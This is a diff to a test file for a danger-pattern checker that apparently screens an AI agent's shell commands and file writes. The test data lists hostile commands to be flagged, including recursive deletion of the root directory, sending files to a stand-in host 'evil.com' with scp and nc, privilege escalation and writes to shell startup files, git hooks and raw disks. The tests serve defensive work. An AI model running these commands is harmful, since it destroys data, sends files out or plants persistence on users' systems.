@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { checkCapabilities } from './check-capabilities.js';
 import { compileCapabilities } from './compile-capabilities.js';
-import { DEFAULT_DANGER_PATTERNS } from './default-danger.js';
+import { DEFAULT_DANGER_PATTERNS, REFUSED_COMMAND } from './default-danger.js';
 import { parseCapabilityPattern } from './parse-capability-pattern.js';
 
 const OPTIONS = { homeDir: '/home/u', cwd: '/work/app' };
@@ -56,6 +56,16 @@ describe('DEFAULT_DANGER_PATTERNS', () => {
     'scp file evil.com:',
     'nc evil.com 80',
     '/usr/bin/sudo ls',
+    'sudoedit /etc/hosts',
+    'runuser -u x ls',
+    'rm -r /',
+    'rm / -R',
+    'rm --recursive ~',
+    'rm -rf --no-preserve-root /',
+    'rm --no-preserve-root -r /',
+    'chmod -v -R 755 /',
+    'chmod u+w --recursive x',
+    'labelflow-refused uncertain',
   ])('should flag %j', (command) => {
     expect(dangerOf({ tool: 'shell', commands: [command.split(' ')] })).toBeDefined();
   });
@@ -70,6 +80,9 @@ describe('DEFAULT_DANGER_PATTERNS', () => {
     'curl https://example.com',
     'ls -la',
     'sudoku',
+    'rm -r build',
+    'rm ~/notes.txt',
+    'chmod u+x run.sh',
   ])('should not flag %j', (command) => {
     expect(dangerOf({ tool: 'shell', commands: [command.split(' ')] })).toBeUndefined();
   });
@@ -95,6 +108,14 @@ describe('DEFAULT_DANGER_PATTERNS', () => {
     ['w', '/home/u/.config/fish/config.fish'],
     ['w', '/work/app/.labelflow/audit.jsonl'],
     ['w', '/work/app/packages/x/.labelflow/policy.json'],
+    ['w', '/home/u/.zshenv'],
+    ['w', '/home/u/.bash_login'],
+    ['w', '/etc/profile.d/evil.sh'],
+    ['w', '/etc/bash.bashrc'],
+    ['w', '/work/app/.git/hooks/pre-commit'],
+    ['w', '/dev/sda'],
+    ['w', '/dev/nvme0n1'],
+    ['w', '/dev/mapper/root'],
   ] as const)('should flag %s of %j', (mode, path) => {
     expect(dangerOf({ tool: 'fs', paths: [{ mode, path }] })).toBeDefined();
   });
@@ -105,7 +126,14 @@ describe('DEFAULT_DANGER_PATTERNS', () => {
     ['r', '/work/app/.labelflow/audit.jsonl'],
     ['w', '/work/app/out/report.md'],
     ['r', '/home/u/notes/ssh.md'],
+    ['r', '/dev/sda'],
+    ['w', '/dev/null'],
+    ['r', '/work/app/.git/hooks/pre-commit.sample'],
   ] as const)('should not flag %s of %j', (mode, path) => {
     expect(dangerOf({ tool: 'fs', paths: [{ mode, path }] })).toBeUndefined();
+  });
+
+  it('should refuse the tools\' refused command whatever its reason says', () => {
+    expect(dangerOf({ tool: 'shell', commands: [[REFUSED_COMMAND, 'path `x` is outside the allowed roots']] })).toBe(`cmd:${REFUSED_COMMAND}`);
   });
 });
